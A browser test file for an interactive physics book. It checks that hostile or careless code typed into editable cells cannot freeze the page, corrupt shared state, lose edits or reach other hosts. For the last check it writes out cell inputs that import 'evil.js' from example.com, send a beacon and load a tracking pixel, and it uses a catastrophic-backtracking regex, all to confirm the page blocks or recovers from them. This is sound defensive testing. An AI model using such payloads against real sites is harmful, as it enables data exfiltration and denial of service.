/**
 * Nothing a reader types takes the book down for good, reaches another
 * host, or runs behind their back; and edits are never lost without a word.
 * Each test is one of the faults found when the book was put through a
 * careless or hostile reader's hands (issue 11), on /playground/ or
 * /introduction/, in the same browser profile across reloads and tabs.
 */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, before, test } from 'node:test';
import { cell, cellsReady, errorOf, openChapter, openSite, outputOf, typeIntoCell, waitForOutput, watchPage } from './fixture.mjs';
import { watchFrames } from './frame-watch.mjs';

/** @type {Awaited<ReturnType<typeof openSite>>} */
let site;
before(async () => (site = await openSite()));
after(() => site?.close());

const SIM = '[data-cell="sim"] [data-widget="simulator"]';
/** The inspector shows numbers to 12 significant digits (cells/inspect.ts). */
const PERIOD_OF = (omega) => `period = ${Number(((2 * Math.PI) / omega).toPrecision(12))}`;

/** The simulated time of the playground's simulator. */
const simTime = (page) => page.evaluate((selector) => document.querySelector(selector)?.simulator.simulation.t ?? NaN, SIM);

/** Waits until the error line of cell `id` matches `pattern`, and returns it. */
async function waitForError(page, id, pattern) {
  await page.waitForFunction(
    ([id, source, flags]) => new RegExp(source, flags).test(document.querySelector(`[data-cell="${id}"] [data-cell-error]`)?.textContent ?? ''),
    [id, pattern.source, pattern.flags],
  );
  return errorOf(page, id);
}

/** The console errors Chromium prints for requests the page's own policy blocked: expected where a test makes them. */
const notCspReports = (problems) => problems.filter((p) => !/Content Security Policy/.test(p));

test('a runaway loop stops after 2 s with an error naming its cell; the simulator never stops', async () => {
  const { page, problems } = await openChapter(site, '/playground/');
  await page.waitForSelector(`${SIM}[data-ready]`);
  await typeIntoCell(page, 'H0', 'H0 = { let n = 0; while (true) { n++; } }');
  assert.match(await waitForError(page, 'H0', /loop/), /^RuntimeError: a loop in cell H0 ran for more than 2 s without finishing and was stopped/);
  // Widgets out of view pause; the reader looks at the simulator.
  await page.evaluate((selector) => document.querySelector(selector).scrollIntoView({ block: 'center' }), SIM);
  const t0 = await simTime(page);
  await page.waitForTimeout(500);
  assert.ok((await simTime(page)) > t0, 'the simulator kept running');
  // Fixing the cell recovers it.
  await typeIntoCell(page, 'H0', 'H0 = 42');
  await waitForOutput(page, 'H0', (text) => text === 'H0 = 42');
  assert.equal(await errorOf(page, 'H0'), '');
  assert.deepEqual(problems, []);
  await page.close();
});

test('code that froze the page is not run again on the next load: the original runs and the edit is offered', async () => {
  const frozen = await site.context.newPage();
  await frozen.goto(`${site.origin}/`);
  await frozen.evaluate(() => localStorage.clear());
  await frozen.goto(`${site.origin}/introduction/`);
  await cellsReady(frozen);
  // Catastrophic backtracking: no loop for the guard to stop, and it runs for minutes.
  await typeIntoCell(frozen, 'omega', "omega = /^(a+)+$/.test('a'.repeat(36) + 'b') ? 1 : 2");
  await new Promise((wait) => setTimeout(wait, 1500));

  // The reader gives up on the frozen tab and opens the chapter again, in the same browser.
  const page = await site.context.newPage();
  const { problems } = watchPage(page);
  await page.goto(`${site.origin}/introduction/`);
  await cellsReady(page);
  assert.equal(await outputOf(page, 'omega'), 'omega = 10');
  const notice = cell(page, 'omega').locator('[data-cell-notice]');
  assert.match((await notice.textContent()) ?? '', /did not finish the last time it ran/);
  assert.equal(await cell(page, 'omega').locator('.cell-editor').textContent(), 'omega = 10');
  // "Edit it" puts the code back in the editor, not running.
  await notice.getByRole('button', { name: 'Edit it' }).click();
  assert.match((await cell(page, 'omega').locator('.cell-editor').textContent()) ?? '', /\(a\+\)\+/);
  assert.equal(await outputOf(page, 'omega'), 'omega = 10');
  assert.deepEqual(problems, []);
  await frozen.close({ runBeforeUnload: false });
  await page.close();
});

test('a pending cell can be fixed and reset; errors from its timers show under it', async () => {
  const { page, problems } = await openChapter(site, '/playground/');
  await typeIntoCell(page, 'H0', 'H0 = new Promise(() => {})');
  await page.waitForFunction(() => document.querySelector('[data-cell="H0"]')?.dataset.cellState === 'pending');
  await typeIntoCell(page, 'H0', 'H0 = 7');
  await waitForOutput(page, 'H0', (text) => text === 'H0 = 7');

  await typeIntoCell(page, 'H0', 'H0 = new Promise(() => {})');
  await page.waitForFunction(() => document.querySelector('[data-cell="H0"]')?.dataset.cellState === 'pending');
  await cell(page, 'H0').locator('[data-cell-reset]').click();
  await waitForOutput(page, 'H0', (text) => /^H0 = \d/.test(text));

  await typeIntoCell(page, 'H0', "H0 = { setTimeout(() => { throw new Error('late trouble'); }, 50); return 1; }");
  await waitForOutput(page, 'H0', (text) => text === 'H0 = 1');
  assert.equal(await waitForError(page, 'H0', /late trouble/), 'Error: late trouble (after the cell ran)');
  // Shown where the reader looks, so not also thrown at the console.
  assert.deepEqual(problems, []);
  await page.close();
});

test('a cell that replaces Math.sqrt has it put back, with a word under the cell', async () => {
  const { page, problems } = await openChapter(site, '/playground/');
  await typeIntoCell(page, 'H0', 'H0 = { Math.sqrt = () => 0; return 1; }');
  assert.match(await waitForError(page, 'H0', /Math\.sqrt/), /changed Math\.sqrt, which every cell and widget relies on; the change was undone/);
  assert.equal(await page.evaluate(() => Math.sqrt(16)), 4);
  assert.deepEqual(problems, []);
  await page.close();
});

test('a cell that empties the page says how to get it back, and the reload offers the edit instead of running it', async () => {
  const { page } = await openChapter(site, '/introduction/');
  await typeIntoCell(page, 'omega', "omega = { document.body.innerHTML = ''; return 1; }");
  await page.waitForSelector('#phasebook-page-broken');
  assert.match(await page.locator('#phasebook-page-broken').textContent(), /removed this page's content\. Reload the page/);
  await page.reload();
  await cellsReady(page);
  assert.equal(await outputOf(page, 'omega'), 'omega = 10');
  assert.match((await cell(page, 'omega').locator('[data-cell-notice]').textContent()) ?? '', /did not finish the last time it ran/);
  await page.close();
});

test('requests to other hosts are blocked by the page’s policy, and the cell says why', async () => {
  const { page, problems } = await openChapter(site, '/playground/');
  // Every request to another host, and how it ended: none may get a response.
  const foreign = new Map();
  page.on('request', (r) => !r.url().startsWith('http://127.0.0.1:') && !r.url().startsWith('data:') && foreign.set(r.url(), 'sent'));
  page.on('requestfailed', (r) => foreign.has(r.url()) && foreign.set(r.url(), r.failure()?.errorText));
  page.on('response', (r) => foreign.has(r.url()) && foreign.set(r.url(), `answered ${r.status()}`));
  await typeIntoCell(page, 'H0', "H0 = fetch('https://example.com/data.json')");
  assert.match(await waitForError(page, 'H0', /Blocked|fetch/i), /Blocked: a request to example\.com|TypeError: Failed to fetch/);
  await typeIntoCell(page, 'H0', "H0 = { const image = new Image(); image.src = 'https://example.com/pixel.png'; return 1; }");
  assert.equal(await waitForError(page, 'H0', /image/), "Blocked: an image to example.com. Cells may only reach this book's own site (its Content-Security-Policy, img-src).");
  await typeIntoCell(page, 'H0', "H0 = import('https://example.com/evil.js')");
  assert.match(await waitForError(page, 'H0', /Error/), /Error/);
  await typeIntoCell(page, 'H0', "H0 = navigator.sendBeacon('https://example.com/b', 'x')");
  await page.waitForTimeout(300);
  for (const [url, outcome] of foreign) assert.match(outcome, /csp/i, url);
  // Chromium logs each blocked request to the console and the watcher lists them as foreign: those are the expected ones.
  assert.deepEqual(notCspReports(problems).filter((p) => !/^foreign request: https:\/\/example\.com\/|request failed: https:\/\/example\.com\/.* csp$/.test(p)), []);
  await page.close();
});

test('an edit planted under a key this book did not write is never run', async () => {
  const { page, problems } = await openChapter(site, '/introduction/');
  await page.evaluate(() => {
    const planted = (source) => JSON.stringify({ draft: source, ran: source, base: document.querySelector('[data-cell="omega"]').dataset.cellHash, savedAt: Date.now(), tab: 'x' });
    // The old key format, a guessed secret, and another book's path on this origin.
    localStorage.setItem('phasebook:v1:edit:introduction:omega', JSON.stringify({ source: 'omega = 666', base: 'x', savedAt: 1 }));
    localStorage.setItem(`phasebook:v2:${'0'.repeat(32)}:/introduction/:edit:omega`, planted('omega = 667'));
    const secret = localStorage.getItem('phasebook:v2:secret');
    localStorage.setItem(`phasebook:v2:${secret}:/other-book/introduction/:edit:omega`, planted('omega = 668'));
  });
  await page.reload();
  await cellsReady(page);
  assert.equal(await outputOf(page, 'omega'), 'omega = 10');
  assert.equal(await cell(page, 'omega').locator('[data-cell-notice]').isVisible(), false);
  assert.deepEqual(problems, []);
  await page.close();
});

test('when storage is full the page says the edit cannot be kept, and offers the edits as a download', async () => {
  const { page, problems } = await openChapter(site, '/introduction/');
  // Fill what is left of this origin's quota.
  await page.evaluate(() => {
    // Halving chunks down to one character, so not even a short edit fits.
    let i = 0;
    for (let size = 1 << 20; size >= 1; size >>= 1) {
      const chunk = 'x'.repeat(size);
      for (;;) {
        try {
          localStorage.setItem(`filler-${i++}`, chunk);
        } catch {
          break;
        }
      }
    }
  });
  await typeIntoCell(page, 'omega', 'omega = 4');
  await waitForOutput(page, 'period', (text) => text === PERIOD_OF(4));
  const notice = cell(page, 'omega').locator('[data-cell-notice]');
  await notice.waitFor();
  assert.match((await notice.textContent()) ?? '', /cannot be kept: the browser’s storage for this site is full/);
  const [download] = await Promise.all([page.waitForEvent('download'), notice.getByRole('button', { name: 'Download my edits' }).click()]);
  const file = JSON.parse(await readFile(await download.path(), 'utf8'));
  assert.deepEqual(file.edits, [{ cell: 'omega', draft: 'omega = 4', running: 'omega = 4' }]);
  await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('filler-')).forEach((k) => localStorage.removeItem(k)));
  assert.deepEqual(problems, []);
  await page.close();
});

test('when storage is disabled the page says edits cannot be kept', async () => {
  const page = await site.context.newPage();
  await page.addInitScript(() => {
    const refuse = () => {
      throw new DOMException('storage is disabled', 'SecurityError');
    };
    Storage.prototype.getItem = refuse;
    Storage.prototype.setItem = refuse;
  });
  const { problems } = watchPage(page);
  await page.goto(`${site.origin}/introduction/`);
  await cellsReady(page);
  await typeIntoCell(page, 'omega', 'omega = 4');
  await waitForOutput(page, 'period', (text) => text === PERIOD_OF(4));
  const notice = cell(page, 'omega').locator('[data-cell-notice]');
  await notice.waitFor();
  assert.match((await notice.textContent()) ?? '', /cannot be kept: the browser does not let this page keep data/);
  assert.deepEqual(problems, []);
  await page.close();
});

test('two tabs: each hears of the other’s edit, and neither overwrites newer work without a word', async () => {
  const a = await openChapter(site, '/introduction/');
  const b = await site.context.newPage();
  const bWatch = watchPage(b);
  await b.goto(`${site.origin}/introduction/`);
  await cellsReady(b);

  await typeIntoCell(a.page, 'omega', 'omega = 5');
  await waitForOutput(a.page, 'period', (text) => text === PERIOD_OF(5));
  const bNotice = cell(b, 'omega').locator('[data-cell-notice]');
  await bNotice.waitFor();
  assert.match((await bNotice.textContent()) ?? '', /changed in another tab/);

  // B ignores the notice and runs its own value: its save must not silently replace A's newer one.
  await typeIntoCell(b, 'omega', 'omega = 6');
  await waitForOutput(b, 'period', (text) => text === PERIOD_OF(6));
  await b.waitForFunction(() => /not saved yet/.test(document.querySelector('[data-cell="omega"] [data-cell-notice]')?.textContent ?? ''));
  const stored = () => a.page.evaluate(() => {
    const key = Object.keys(localStorage).find((k) => k.endsWith('/introduction/:edit:omega'));
    return key ? JSON.parse(localStorage.getItem(key)).ran : null;
  });
  assert.equal(await stored(), 'omega = 5');
  await bNotice.getByRole('button', { name: 'Keep mine' }).click();
  assert.equal(await stored(), 'omega = 6');

  // A hears of it, and takes it.
  const aNotice = cell(a.page, 'omega').locator('[data-cell-notice]');
  await aNotice.waitFor();
  await aNotice.getByRole('button', { name: 'Use theirs' }).click();
  await waitForOutput(a.page, 'period', (text) => text === PERIOD_OF(6));
  assert.deepEqual(a.problems, []);
  assert.deepEqual(bWatch.problems, []);
  await a.page.close();
  await b.close();
});

test('dt = 1e-9 makes the theory checks fail within seconds, saying why, instead of computing for hours', async () => {
  const { page, problems } = await openChapter(site, '/introduction/');
  await typeIntoCell(page, 'dt', 'dt = 1e-9');
  const line = await waitForError(page, 'driveLine', /steps/);
  assert.match(line, /more than the 1e\+7 \(about a second of integration\) the book lets one cell compute: take a larger dt \(now 1e-9\)/);
  // Back to the default step, the checks agree again.
  await typeIntoCell(page, 'dt', 'dt = 5e-4');
  await page.waitForFunction(() => document.querySelector('[data-cell="driveLine"] [data-cell-error]')?.hidden === true, null);
  assert.deepEqual(problems, []);
  await page.close();
});

test('options beyond the book’s bounds are refused with one line under the cell', async () => {
  const { page, problems } = await openChapter(site, '/playground/');
  for (const [options, message] of [
    ["({dt: 5e-4, speed: 1e308, views: ['time']})", /speed = 1e\+308 is above the largest the book allows, 100000 time units per second/],
    ["({dt: 1e-12, speed: 1, views: ['time']})", /dt = 1e-12 is below the smallest the book allows, 1e-9/],
  ]) {
    await typeIntoCell(page, 'options', `options = ${options}`);
    // Wait for this option's message: the one before also says "allows" until the cell has run again.
    assert.match(await waitForError(page, 'sim', message), message);
  }
  await typeIntoCell(page, 'options', "options = ({dt: 5e-4, speed: 1, views: ['time']})");
  await page.waitForSelector(`${SIM}[data-ready]`);
  // The widget's own dt field keeps its bound too.
  const field = page.locator(`${SIM} input[aria-label="Time step dt"]`);
  await field.fill('1e-12');
  await field.press('Enter');
  assert.match((await page.locator(`${SIM} .pb-field-message`).first().textContent()) ?? '', /too small; use at least 1e-9/);
  assert.deepEqual(problems, []);
  await page.close();
});

test('an H that takes 5 ms a call keeps the page answering: no frame integrates more than a step of it, and a timer waits for a few at most', async () => {
  const { page, problems } = await openChapter(site, '/playground/');
  // Opaque to the translator (it reads the clock), so 5-point differences: 32 calls, 160 ms, per RK 3/8 step.
  await typeIntoCell(page, 'H', 'H = (t, [q, p]) => {\n  const end = performance.now() + 5;\n  while (performance.now() < end) {}\n  return p * p / 2 + q * q / 2;\n}');
  await page.waitForFunction((selector) => document.querySelector(selector)?.simulator?.model?.route === 'js-stencil' && document.querySelector(selector).hasAttribute('data-ready'), SIM);
  // Out of view a simulator pauses: the reader looks at it, and it plays.
  await page.evaluate((selector) => {
    const el = document.querySelector(selector);
    el.scrollIntoView({ block: 'center' });
    el.simulator.play();
  }, SIM);
  // Told by work, not by the clock: a frame's budget is 6 ms, so after its first step of 160 ms a frame stops;
  // a frame that committed to the old first chunk of 16 steps took 2.6 s, and a click waited 6.5 s. A zero
  // timeout posted between two frames runs after one or two more (Chromium may draw twice in a row after a long
  // frame), however busy the machine.
  const seen = await watchFrames(page, SIM, 8, { probeTimers: true });
  console.log(`an H of 5 ms: steps per frame ${seen.frames.map((f) => f.steps).join(' ')}; longest task ${Math.round(seen.longest)} ms; steps a zero timeout waited: at most ${Math.max(...seen.timers)}`);
  assert.ok(seen.complete, `only ${seen.frames.length} frames came`);
  assert.ok(seen.pageSteps > 0, 'it integrated');
  assert.ok(Math.max(...seen.frames.map((f) => f.steps)) <= 1, `steps per frame: ${seen.frames.map((f) => f.steps).join(' ')}`);
  assert.ok(seen.timers.length >= 4 && Math.max(...seen.timers) <= 3, `steps integrated while a zero timeout waited: ${seen.timers.join(' ')}`);
  // And the page still answers a cell.
  await typeIntoCell(page, 'H0', 'H0 = 1 + 1');
  await waitForOutput(page, 'H0', (text) => text === 'H0 = 2');
  assert.deepEqual(problems, []);
  await page.close();
});

test('a batch of 100 000 trajectories starts, and draws a stated sample of 2000 of them', async () => {
  const { page, problems } = await openChapter(site, '/playground/');
  await typeIntoCell(page, 'options', "options = ({dt: 5e-4, speed: 1, views: ['time', 'phase']})");
  await typeIntoCell(page, 'initial', 'initial = Array.from({length: 100000}, (_, i) => [2 + i * 1e-5, 0])');
  // It was one task of 110 to 160 s: looking up 10⁵ column names in a list of 3·10⁵, for every view. Columns are
  // found by a map now, and the views draw an even sample (tests/unit/widgets/plots/plane-columns.test.ts, on 10⁵
  // trajectories); here the start must come within the wait's limit, which only a hang exceeds.
  await page.waitForFunction(
    (selector) => document.querySelector(selector)?.simulator?.simulation?.count === 100000 && document.querySelector(selector).hasAttribute('data-ready'),
    SIM,
  );
  // What the reader is told: the phase portrait draws 2000 of the trajectories, and says so.
  const phase = await page.evaluate((selector) => document.querySelector(`${selector} [data-widget="phase-portrait"] canvas`)?.getAttribute('aria-label') ?? '', SIM);
  assert.match(phase, /\(2000 tracks\)/);
  assert.ok(await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => done(true)))));
  assert.deepEqual(problems, []);
  await page.close();
});

test('an expression H of 50 degrees of freedom builds in the compile worker, and runs', async () => {
  const { page, problems, requests } = await openChapter(site, '/playground/');
  const H = Array.from({ length: 50 }, (_, i) => `(p${i}^2 + q${i}^2)/2`).join(' + ');
  await typeIntoCell(page, 'dof', 'dof = 50');
  await typeIntoCell(page, 'initial', 'initial = Array.from({length: 100}, (_, i) => i < 50 ? 1 : 0)');
  await typeIntoCell(page, 'H', `H = "${H}"`);
  // It froze the page for over 80 s: mathjs simplified each derivative, exponentially in the number of terms. The
  // build's work is linear in the degrees of freedom now (tests/unit/core/expression/model-build.test.ts counts
  // it), and it runs in the compile worker, off the page; here it must come within the wait's limit.
  await page.waitForFunction((selector) => document.querySelector(selector)?.simulator?.model?.dof === 50 && document.querySelector(selector).hasAttribute('data-ready'), SIM);
  assert.ok(requests.some((url) => /compile-worker/.test(url)), 'the model was compiled in the worker');
  // Each degree of freedom is a unit oscillator from q = 1: q_i(t) = cos t, the closed form.
  const { t, q } = await page.evaluate((selector) => {
    const sim = document.querySelector(selector).simulator;
    sim.pause();
    return { t: sim.simulation.t, q: Array.from(sim.simulation.state.slice(0, 50)) };
  }, SIM);
  for (const value of q) assert.ok(Math.abs(value - Math.cos(t)) < 1e-9, `q = ${value} at t = ${t}, cos t = ${Math.cos(t)}`);
  assert.deepEqual(problems, []);
  await page.close();
});
